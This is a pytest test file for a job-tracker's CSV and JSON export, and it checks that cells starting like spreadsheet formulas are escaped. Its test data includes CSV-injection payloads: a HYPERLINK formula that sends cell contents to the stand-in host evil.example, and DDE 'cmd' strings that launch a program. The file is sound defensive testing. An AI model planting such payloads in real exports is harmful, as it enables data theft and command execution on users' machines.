"""`roledex export`: a spreadsheet never runs a cell, and JSON stays JSON."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest
from conftest import invoke, make_site
from roledex.facts.export import (
    APPLICATION_COLUMNS,
    COLUMNS,
    FORMULA_STARTS,
    HISTORY_COLUMNS,
    as_csv,
    as_json,
    export_rows,
)
from roledex.kb.model import Company, KnowledgeBase, Posting, Salary
from roledex.kb.settings import Settings
from roledex.kb.source import Document

PAYLOADS = [
    '=1+HYPERLINK("https://evil.example/?"&A1,"x")',
    '=HYPERLINK("https://evil.example")',
    "-2+3+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "-1",
    "=",
]


def _read(text: str) -> csv.DictReader[str]:
    """The rows as a spreadsheet reads them: the byte-order mark says UTF-8, then the header."""
    assert text.startswith("\ufeff")
    return csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""))


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("column", [c for c in COLUMNS if c not in ("salary_min", "salary_max", "converted")])
def test_every_text_cell_that_starts_like_a_formula_is_quoted(column: str, payload: str) -> None:
    row = dict.fromkeys(COLUMNS, "plain") | {column: payload}
    cells = next(_read(as_csv([row])))
    assert cells[column] == "'" + payload


@pytest.mark.parametrize("value", ["Etsy", "2026-11-01", "Senior Engineer - Growth", "a=b", " =1", "'=1"])
def test_text_that_cannot_start_a_formula_is_kept_as_written(value: str) -> None:
    row = dict.fromkeys(COLUMNS, "") | {"title": value}
    assert next(_read(as_csv([row])))["title"] == value


@pytest.mark.parametrize("number", [-5, 0, 153000, 1.5])
def test_numbers_stay_numbers(number: float) -> None:
    row = dict.fromkeys(COLUMNS, "") | {"salary_min": number}
    assert next(_read(as_csv([row])))["salary_min"] == str(number)


def test_the_formula_starts_are_owasps_and_more() -> None:
    assert {"=", "+", "-", "@", "\t", "\r"} <= FORMULA_STARTS


def test_export_of_hostile_front_matter_runs_nothing(tmp_path: Path) -> None:
    make_site(
        tmp_path,
        {
            "companies/evil.md": "---\nname: \"=1+HYPERLINK('https://evil.example')\"\n---\n",
            "postings/evil-x.md": (
                "---\ncompany: evil\ntitle: \"-2+3+cmd|' /C calc'!A0\"\nrole: data-engineer\n"
                'locations: ["@SUM(1)"]\nsalary:\n  min: 100000\n  max: 120000\n  currency: USD\n'
                '  period: year\n  text: "+1 bonus"\n---\n\nBody\n'
            ),
        },
    )
    result = invoke("export", str(tmp_path / "docs"), "--config", str(tmp_path / "mkdocs.yml"))
    assert result.returncode == 0, result.stderr
    rows = {row["posting"]: row for row in _read(result.stdout)}
    evil = rows["evil-x"]
    for column in ("company_name", "title", "locations", "salary_text"):
        assert evil[column].startswith("'"), (column, evil[column])
    assert evil["salary_min"] == "100000"
    as_json = invoke("export", str(tmp_path / "docs"), "--format", "json", "--config", str(tmp_path / "mkdocs.yml"))
    postings = json.loads(as_json.stdout)["postings"]
    assert next(p for p in postings if p["posting"] == "evil-x")["title"] == "-2+3+cmd|' /C calc'!A0"


DOC = Document(path="postings/p.md", folder="postings", slug="p", meta={}, body="", body_line=1)
RATES = Settings(base_currency="USD", rates={"EUR": 1.1}, rates_date=dt.date(2026, 11, 1))


def _kb(*postings: Posting) -> KnowledgeBase:
    kb = KnowledgeBase()
    kb.companies["acme"] = Company(slug="acme", doc=DOC, name="Acme Inc")
    for posting in postings:
        kb.postings[posting.slug] = posting
    return kb


def test_a_row_holds_the_posting_as_stated_and_as_a_year_in_the_base_currency() -> None:
    posting = Posting(
        slug="p",
        doc=DOC,
        company="acme",
        title="Data Engineer",
        role="data-engineer",
        locations=["Berlin", "Remote"],
        work_mode="hybrid",
        salary=Salary(min=5000, max=6000.333, currency="EUR", period="month", text="5-6k"),
        url="https://acme.example/jobs/1",
        posted=dt.date(2026, 11, 2),
        closes=dt.date(2026, 12, 1),
    )
    (row,) = export_rows(_kb(posting), RATES)
    assert row == {
        "posting": "p",
        "company": "acme",
        "company_name": "Acme Inc",
        "title": "Data Engineer",
        "role": "data-engineer",
        "locations": "Berlin; Remote",
        "work_mode": "hybrid",
        "salary_min": 5000,
        "salary_max": 6000.33,  # a posted figure keeps its cents, two of them
        "currency": "EUR",
        "period": "month",
        "salary_text": "5-6k",
        "annual_min": 66000,  # a year's pay in whole units
        "annual_mid": 72602,
        "annual_max": 79204,
        "annual_currency": "USD",
        "converted": True,
        "flag": "",
        "url": "https://acme.example/jobs/1",
        "posted": "2026-11-02",
        "closes": "2026-12-01",
    }
    assert list(row) == list(COLUMNS)


def test_a_row_without_a_salary_or_a_known_company_is_empty_there() -> None:
    (row,) = export_rows(_kb(Posting(slug="q", doc=DOC, company="nobody", title="T")), RATES)
    assert row["company_name"] == "" and row["role"] == "" and row["work_mode"] == "" and row["locations"] == ""
    empty = ["salary_min", "salary_max", "currency", "period", "salary_text", "annual_min", "annual_mid"]
    empty += ["annual_max", "annual_currency", "converted", "url", "posted", "closes"]
    assert {key: row[key] for key in empty} == dict.fromkeys(empty)
    assert row["flag"] == ""


@pytest.mark.parametrize(
    ("salary", "flag", "converted"),
    [
        (Salary(100, 200, "USD", "year", headline=300), "headline is min + max", False),  # already USD
        (Salary(100, 200, "XAU", "year"), "no rate for XAU", False),
        (Salary(100, 200, "XAU", "year", headline=300), "headline is min + max; no rate for XAU", False),
        (Salary(100, 200, "USD", "year", headline=250), "", False),
        (Salary(100, 200, "EUR", "year"), "", True),
    ],
)
def test_the_flag_says_why_a_figure_needs_care(salary: Salary, flag: str, converted: bool) -> None:
    (row,) = export_rows(_kb(Posting(slug="p", doc=DOC, company="acme", title="T", salary=salary)), RATES)
    assert (row["flag"], row["converted"]) == (flag, converted)


@pytest.mark.parametrize(
    ("low", "high", "shown"),
    [(197000.0, 257000.0, (197000, 257000)), (62.5, 80.0, (62.5, 80)), (5000, 6000.333, (5000, 6000.33))],
)
def test_posted_figures_are_whole_numbers_unless_they_have_cents(low: float, high: float, shown: tuple) -> None:
    salary = Salary(low, high, "USD", "hour")
    (row,) = export_rows(_kb(Posting(slug="p", doc=DOC, company="acme", title="T", salary=salary)), RATES)
    assert (row["salary_min"], row["salary_max"]) == shown
    assert all(
        type(value) is type(expected)
        for value, expected in zip((row["salary_min"], row["salary_max"]), shown, strict=True)
    )
    assert isinstance(row["annual_min"], int) and isinstance(row["annual_max"], int)
    assert "197000.0" not in as_json([row], RATES)


def test_json_carries_the_base_currency_and_the_date_of_the_rates() -> None:
    rows = export_rows(_kb(Posting(slug="q", doc=DOC, company="acme", title="T")), RATES)
    data = json.loads(as_json(rows, RATES))
    assert (data["base_currency"], data["rates_date"], data["postings"]) == ("USD", "2026-11-01", rows)
    assert json.loads(as_json([], Settings()))["rates_date"] is None
    assert as_json([{"title": "Café"}], Settings()).count("Café") == 1
    with pytest.raises(ValueError):
        as_json([{"annual_min": float("nan")}], Settings())


def test_csv_has_a_header_and_one_line_per_posting() -> None:
    rows = export_rows(_kb(Posting(slug="q", doc=DOC, company="acme", title="T")), RATES)
    assert as_csv(rows).split("\r\n") == ["\ufeff" + ",".join(COLUMNS), "q,acme,Acme Inc,T" + "," * 17, ""]


HISTORY_APPLICATION = (
    "---\nposting: etsy-engineering-manager-ml-for-growth\nstatus: screening\nsource: referral\n"
    "applied: 2026-11-02\nnext_step: Call £ back\nnext_date: 2026-11-27\n"
    "events:\n  - date: 2026-11-02\n    status: applied\n  - date: 2026-11-06\n    status: screening\n"
    '    note: "=cmd €"\n  - date: 2099-01-01\n    round: final\n---\n'
)


def test_the_private_export_says_where_you_stand_and_the_public_one_does_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    make_site(tmp_path, {"applications/etsy-engineering-manager-ml-for-growth.md": HISTORY_APPLICATION})
    docs, config = str(tmp_path / "docs"), str(tmp_path / "mkdocs.yml")
    public = invoke("export", docs, "--config", config)
    assert "status" not in next(_read(public.stdout)) and "screening" not in public.stdout
    monkeypatch.setenv("ROLEDEX_PRIVATE", "include")
    private = invoke("export", docs, "--config", config)
    row = {r["posting"]: r for r in _read(private.stdout)}["etsy-engineering-manager-ml-for-growth"]
    assert {k: row[k] for k in APPLICATION_COLUMNS} == {
        "status": "screening",
        "applied": "2026-11-02",
        "last_event": "moved to screening",
        "last_event_date": "2026-11-06",
        "next_step": "Call £ back",
        "next_date": "2026-11-27",
        "source": "referral",
    }
    assert private.stdout.encode("utf-8").startswith(b"\xef\xbb\xbf")


def test_the_history_export_has_a_row_per_event(tmp_path: Path) -> None:
    make_site(tmp_path, {"applications/etsy-engineering-manager-ml-for-growth.md": HISTORY_APPLICATION})
    result = invoke("export", str(tmp_path / "docs"), "--history", "--config", str(tmp_path / "mkdocs.yml"))
    assert result.returncode == 0, result.stderr
    rows = list(_read(result.stdout))
    assert [(r["date"], r["what"], r["status"], r["round"]) for r in rows] == [
        ("2026-11-02", "status", "applied", ""),
        ("2026-11-06", "status", "screening", ""),
        ("2099-01-01", "round", "", "final"),
    ]
    assert rows[1]["note"] == "'=cmd €" and rows[0]["recorded_in"] == "events"
    assert list(rows[0]) == list(HISTORY_COLUMNS)
    as_json = invoke(
        "export", str(tmp_path / "docs"), "--history", "--format", "json", "--config", str(tmp_path / "mkdocs.yml")
    )
    assert [e["status"] for e in json.loads(as_json.stdout)["events"]] == ["applied", "screening", None]
